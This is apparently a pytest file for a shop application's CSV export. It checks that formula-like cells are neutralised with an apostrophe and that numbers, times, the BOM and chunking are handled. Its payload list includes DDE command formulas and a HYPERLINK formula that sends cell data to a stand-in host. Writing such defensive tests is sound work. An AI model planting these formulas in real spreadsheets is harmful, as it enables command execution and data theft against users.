import csv
import io
from datetime import UTC, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest

from core.ui import csv_out

ZONE = ZoneInfo("America/Argentina/Buenos_Aires")

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://malo.example/?d="&A1;"Abrir")',
    '=IMPORTXML(CONCAT(A1;B1);"//a")',
    "+1+1",
    "+SUM(A1:A9)",
    "-1-1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "＝1+1",
]


def read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.mark.parametrize("payload", FORMULAS)
def test_a_text_that_a_spreadsheet_would_run_gets_an_apostrophe(payload: str) -> None:
    data = b"".join(csv_out.encode(["Nombre"], [[payload]], ZONE))
    assert read(data.replace(b"\0", b"?"))[1] == ["'" + payload.replace("\0", "?")]


def test_numbers_stay_numbers_also_negative_ones() -> None:
    assert csv_out.cell(-5, ZONE) == "-5"
    assert csv_out.cell(Decimal("-0.040000"), ZONE) == "-0,040000"
    assert csv_out.cell(Decimal("1E+3"), ZONE) == "1000"


def test_a_plain_text_is_left_as_it_is() -> None:
    assert csv_out.cell('Tornillo 3/8" - zincado', ZONE) == 'Tornillo 3/8" - zincado'


def test_times_are_the_shops() -> None:
    assert csv_out.cell(datetime(2026, 1, 2, 1, 0, tzinfo=UTC), ZONE) == "01/01/2026 22:00:00"


def test_the_file_begins_with_a_bom_and_separates_by_semicolon() -> None:
    data = b"".join(csv_out.encode(["Código", "Costo"], [["Ñ;1", Decimal("0.5")]], ZONE))
    assert data == b"\xef\xbb\xbf" + 'Código;Costo\r\n"Ñ;1";0,5\r\n'.encode()


def test_a_long_file_comes_in_chunks_and_loses_no_row() -> None:
    chunks = list(csv_out.encode(["n"], ([n] for n in range(1234)), ZONE))
    assert len(chunks) == 3
    assert [row[0] for row in read(b"".join(chunks))[1:]] == [str(n) for n in range(1234)]


def test_an_empty_file_still_has_its_header() -> None:
    assert read(b"".join(csv_out.encode(["Nombre"], [], ZONE))) == [["Nombre"]]
